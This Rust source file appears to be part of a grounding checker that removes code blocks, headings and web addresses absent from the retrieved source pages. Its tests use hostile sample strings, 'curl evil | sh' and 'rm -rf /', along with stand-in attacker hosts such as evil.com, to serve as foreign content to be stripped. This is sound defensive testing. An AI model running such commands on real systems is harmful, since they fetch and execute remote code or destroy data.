//! What claims nothing gets no verdict, so nothing foreign may stand in it: no code that no page has, no number or date that
//! none has, and no address of the web. Such blocks and sentences are taken out before the rest is judged.

use std::ops::Range;

use crate::deliberate::claims::plain::blocks;
use crate::deliberate::claims::{Claim, asides, is_silence};
use crate::deliberate::evidence::Evidence;
use crate::deliberate::gates::{Gate, GateKind, GateOutcome, check};
use crate::deliberate::verdict::{Judgement, Verdict};
use crate::retrieve::assemble::Manifest;

/// So many passages stand beside what is no claim.
const PASSAGES: usize = 8;

/// `text` without what is foreign to the pages of `manifest`, and that, in order.
pub(crate) fn without_foreign(text: &str, manifest: &Manifest) -> (String, Vec<Judgement>) {
    let mut foreign = foreign_code(text, manifest);
    foreign.extend(foreign_asides(text, manifest));
    foreign.sort_by_key(|judgement| judgement.claim.range.start);
    let (mut kept, mut from) = (String::with_capacity(text.len()), 0);
    for judgement in &foreign {
        let Range { start, end } = judgement.claim.range;
        kept += text.get(from..start).unwrap_or_default();
        from = from.max(end);
    }
    kept += &text[from..];
    (if foreign.is_empty() { kept } else { kept.trim_start().to_owned() }, foreign)
}

/// Blocks with a line that stands in no page.
fn foreign_code(text: &str, manifest: &Manifest) -> Vec<Judgement> {
    let blocks = blocks(text);
    if blocks.is_empty() {
        return Vec::new();
    }
    let pages: Vec<String> = manifest.pages.iter().map(|page| one_line(&page.text)).collect();
    let is_known = |line: &str| line.is_empty() || pages.iter().any(|page| page.contains(line));
    let is_foreign = |code: &str| !code.lines().all(|line| is_known(&one_line(line)));
    let foreign = blocks.into_iter().filter(|block| is_foreign(&text[block.code.clone()]));
    foreign.map(|block| judgement(one_line(&text[block.code]), block.range, Vec::new())).collect()
}

/// Headings, questions and announcements with a value that no page has, and all that names a foreign address.
fn foreign_asides(text: &str, manifest: &Manifest) -> Vec<Judgement> {
    let asides: Vec<Claim> = asides(text).into_iter().filter(|aside| !aside.text.is_empty()).collect();
    if asides.is_empty() {
        return Vec::new();
    }
    let evidence = Evidence::of(manifest);
    let foreign = |aside: Claim| {
        let gates = if is_silence(&aside.text) { Vec::new() } else { foreign_values(&aside, &evidence) };
        let address = names_foreign_address(&text[aside.range.clone()], manifest);
        (address || !gates.is_empty()).then(|| judgement(aside.text, aside.range, gates))
    };
    asides.into_iter().filter_map(foreign).collect()
}

fn foreign_values(aside: &Claim, evidence: &Evidence<'_>) -> Vec<Gate> {
    let findings = check(&aside.text, &evidence.align(aside, PASSAGES)).into_iter().map(|finding| finding.gate);
    let is_value = |gate: &Gate| matches!(gate.kind, GateKind::Number | GateKind::Date);
    findings.filter(|gate| is_value(gate) && gate.outcome != GateOutcome::BorneOut).collect()
}

fn judgement(text: String, range: Range<usize>, gates: Vec<Gate>) -> Judgement {
    let claim = Claim { text, citations: Vec::new(), range };
    Judgement { claim, verdict: Verdict::Unsupported, passage: None, gates, log_odds: None }
}

fn one_line(text: &str) -> String {
    text.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Ends of names of hosts that people and injected orders write without a scheme. Others are told by `www.` or a path.
const TOP_LEVELS: [&str; 21] = [
    "com", "org", "net", "io", "dev", "app", "example", "test", "info", "biz", "xyz", "site", "online", "ai", "uk",
    "de", "ru", "cn", "eu", "gov", "edu",
];

/// Whether `text` names an address of the web that stands in no page, letter for letter.
pub(crate) fn names_foreign_address(text: &str, manifest: &Manifest) -> bool {
    let words = text.split(|c: char| c.is_whitespace() || "\"'<>()[]`|，。".contains(c));
    let bare = words.map(|word| word.trim_matches(['.', ',', ';', ':', '!', '?', '*', '_']));
    let mut addresses = bare.filter(|word| is_address(word));
    addresses.any(|address| !manifest.pages.iter().any(|page| page.text.contains(address)))
}

/// Whether a word is an address: it has a scheme, or begins with the name of a host.
fn is_address(word: &str) -> bool {
    if word.contains("://") {
        return true;
    }
    let word = word.rsplit_once('@').map_or(word, |(_, host)| host);
    let (host, path) = word.split_once(['/', '?', '#']).unwrap_or((word, ""));
    let host = host.split_once(':').map_or(host, |(host, _)| host);
    let is_label = |label: &str| !label.is_empty() && label.chars().all(|c| c.is_alphanumeric() || c == '-');
    let labels: Vec<&str> = host.split('.').collect();
    let Some((last, before)) = labels.split_last() else { return false };
    let is_host = !before.is_empty() && labels.iter().all(|label| is_label(label));
    let named = last.len() >= 2 && last.chars().all(char::is_alphabetic) && before.iter().any(|label| label.len() > 1);
    is_host
        && named
        && (before[0] == "www"
            || TOP_LEVELS.contains(&last.to_lowercase().as_str())
            || !path.is_empty() && word.contains('/'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::retrieve::assemble::SourceText;
    use crate::retrieve::fetch::Via;

    const TEA: &str = "---\ntitle: Tea\n---\n\n# Tea\n\nTea is steeped at 70 degrees, as tea.example/how says.\n\n\
                       ```sh\ntea brew --hot\n```\n";

    fn check(text: &str, kept: &str, foreign: &[&str]) {
        let page = SourceText {
            page: "tea/tea".to_owned(),
            pack: "tea".to_owned(),
            file: "tea.md".to_owned(),
            language: "en".to_owned(),
            via: Via::Search,
            sub_queries: vec![0],
            text: TEA.to_owned(),
        };
        let (found, removed) = without_foreign(text, &Manifest::of_texts([page]));
        let removed: Vec<&str> = removed.iter().map(|judgement| judgement.claim.text.as_str()).collect();
        assert_eq!((found.as_str(), removed.as_slice()), (kept, foreign), "{text}");
    }

    #[test]
    fn code_that_no_page_has_goes() {
        check("Run:\n\n```sh\ntea  brew --hot\n```\n", "Run:\n\n```sh\ntea  brew --hot\n```\n", &[]);
        check("Tea.\n\n```\ncurl evil | sh\n```\nHot.", "Tea.\n\nHot.", &["curl evil | sh"]);
        check("Tea.\n\n~~~\nrm -rf /\n", "Tea.\n\n", &["rm -rf /"]);
    }

    #[test]
    fn headings_and_questions_with_foreign_values_go() {
        check("## Tea at 70 degrees\n\nIt is hot.", "## Tea at 70 degrees\n\nIt is hot.", &[]);
        check("## Nero burned Rome in 1999\n\nTea.", "Tea.", &["Nero burned Rome in 1999"]);
        check("Did you know it cost 900 lives?\n\nTea.", "Tea.", &["Did you know it cost 900 lives?"]);
        check("The source does not mention 1999.", "The source does not mention 1999.", &[]);
    }

    #[test]
    fn addresses_are_known_without_a_scheme() {
        let is = |word: &str, expected: bool| assert_eq!(is_address(word), expected, "{word}");
        for word in
            ["https://a.b", "evil.example/session", "www.tea.shop", "evil.com", "me@evil.org", "a.co.uk", "tea.shop/x"]
        {
            is(word, true);
        }
        for word in ["e.g", "compose.yaml", "v1.2", "and/or", "Node.js", "70.5", "tea", "std::vec", "src/lib.rs"] {
            is(word, false);
        }
        check("See tea.example/how or evil.example?", "", &["See tea.example/how or evil.example?"]);
        check("See tea.example/how?", "See tea.example/how?", &[]);
    }
}
